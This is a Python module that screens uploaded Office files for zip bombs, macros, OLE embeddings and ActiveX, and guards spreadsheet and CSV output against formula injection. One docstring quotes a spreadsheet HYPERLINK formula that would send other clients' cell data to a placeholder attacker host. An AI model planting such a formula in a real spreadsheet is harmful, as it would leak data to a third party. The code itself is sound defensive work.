"""Office files handed to us (a filled workbook, a Word template), checked as zip containers
before any library unpacks them.

The bytes are read once, from a regular file and within a size limit, and the checks and the
reader see the same bytes (no second open by path). Refused: a file that is not a zip, a zip bomb
(the unpacked total, or one part, over a limit), and anything that can carry code or fetch
content: VBA projects, Excel 4 (XLM) macro sheets, dialog sheets, macro folders, OLE embeddings,
ActiveX controls and customUI (ribbon) parts, by part name, content type or relationship type,
whatever the file's extension says.
"""

from __future__ import annotations

import io
import os
import re
import stat
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from engine.errors import InputError, Problem, printable

# Part names, content types and relationship types that hold macros, embedded programs or the
# ribbon callbacks that run them: VBA projects (and their signatures), Excel 4 macro and dialog
# sheets, macro folders (`xl/macros/*.bin`), Word's macro toolbars and key bindings, OLE
# embeddings, ActiveX controls and customUI (ribbon XML, whose onAction names a macro)
_CODE_PARTS = re.compile(
    r"(vbaproject|vbadata|/macrosheets/|/dialogsheets/|/macros/|/embeddings/|/activex/|oleobject"
    r"|/customui/|customui\d*\.xml|attachedtoolbars|keymapcustomizations)",
    re.IGNORECASE,
)
_CODE_TYPES = re.compile(
    rb"(macroEnabled|macrosheet|dialogsheet|vbaProject|vbaData|oleObject|activeX|ms-office\.vba"
    rb"|customUI|ui/extensibility|attachedToolbars|keyMapCustomizations)",
    re.IGNORECASE,
)


def read_office_file(path: Path, name: str, *, kind: str, max_bytes: int) -> bytes:
    """The bytes of a regular file of at most `max_bytes`, or a located refusal."""
    name = printable(name)

    def refuse(message: str) -> InputError:
        return InputError([Problem(file=name, message=message)])

    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | getattr(os, "O_CLOEXEC", 0))
    except FileNotFoundError:
        raise refuse(f"{kind} not found") from None
    except IsADirectoryError:
        raise refuse("is a directory, expected a file") from None
    except OSError as exc:
        raise refuse(f"cannot read: {exc.strerror}") from None
    try:
        st = os.fstat(fd)
        if not stat.S_ISREG(st.st_mode):
            raise refuse("is not a regular file (a FIFO, device or socket); refusing to read it")
        if st.st_size > max_bytes:
            raise refuse(f"{kind} is too large ({st.st_size} bytes; the limit is {max_bytes})")
        with os.fdopen(os.dup(fd), "rb") as fh:
            data = fh.read(max_bytes + 1)
    except OSError as exc:
        raise refuse(f"cannot read: {exc.strerror}") from None
    finally:
        os.close(fd)
    if len(data) > max_bytes:
        raise refuse(f"{kind} is too large (the limit is {max_bytes} bytes)")
    return data


def check_container(
    data: bytes,
    name: str,
    *,
    not_a_zip: str,
    max_unpacked: int,
    max_part: int,
    code_message: str,
) -> None:
    """Refuse what is not a zip, a bomb, or a container with code in it (all before unpacking)."""
    name = printable(name)

    def refuse(message: str) -> InputError:
        return InputError([Problem(file=name, message=message)])

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            infos = z.infolist()
            _check_sizes(infos, max_unpacked, max_part, refuse)
            types = z.read("[Content_Types].xml") if "[Content_Types].xml" in z.namelist() else b""
            # a part of any name is code when a relationship says so (ribbon XML at `ui.xml`)
            rels = [(i.filename, z.read(i)) for i in infos if i.filename.lower().endswith(".rels")]
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError):
        raise refuse(not_a_zip) from None
    except (RuntimeError, NotImplementedError):  # encrypted or an unknown compression
        raise refuse(not_a_zip) from None
    code = next((i.filename for i in infos if _CODE_PARTS.search("/" + i.filename)), None)
    if code is None:
        code = next((part for part, xml in rels if _CODE_TYPES.search(xml)), None)
    if code is not None or _CODE_TYPES.search(types):
        where = f" ({printable(code)})" if code else ""
        raise refuse(code_message + where)


def _check_sizes(
    infos: list[zipfile.ZipInfo],
    max_unpacked: int,
    max_part: int,
    refuse: Callable[[str], InputError],
) -> None:
    """A zip bomb is refused before any part of it is read."""
    if sum(i.file_size for i in infos) > max_unpacked:
        raise refuse(f"the file unpacks to more than {max_unpacked} bytes; refusing to read it")
    big = next((i for i in infos if i.file_size > max_part), None)
    if big is not None:
        raise refuse(
            f"part {printable(big.filename)!r} unpacks to {big.file_size} bytes "
            f"(the limit is {max_part}); refusing to read it"
        )


def damaged(exc: Exception) -> str:
    """What a library's error on reading an office file means, in words and without its text:
    that text quotes the file's bytes and the library's internals (`KeyError: 'rId1'`,
    `XMLSyntaxError: ... (<string>, line 1)`), which tell a person nothing they can act on."""
    kind = type(exc).__name__
    if isinstance(exc, KeyError):
        why = "a part it refers to is missing"
    elif "ParseError" in kind or "XMLSyntaxError" in kind:
        why = "a part of it is not well-formed XML"
    elif isinstance(exc, (zipfile.BadZipFile, EOFError, zlib.error)):
        why = "its zip container is damaged"
    else:
        why = "a part of it holds what the format does not allow"
    return f"{why} ({kind}); open it in the program that made it and save it again"


def text_cells(cells: Any) -> None:
    """Keep every text cell a string cell. openpyxl stores a str that starts with `=` as a
    formula: a cluster named `=HYPERLINK("http://evil.example/?"&B3,"x")` would become a live
    formula leaking the other clients' cells when the summary is opened."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"


_CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_safe(value: Any) -> Any:
    """A CSV field a spreadsheet will not run: text starting with = + - @ (or a tab or line
    break) gets a leading apostrophe, as OWASP advises for CSV injection. Numbers stay numbers."""
    if isinstance(value, str) and value.startswith(_CSV_TRIGGERS):
        return "'" + value
    return value
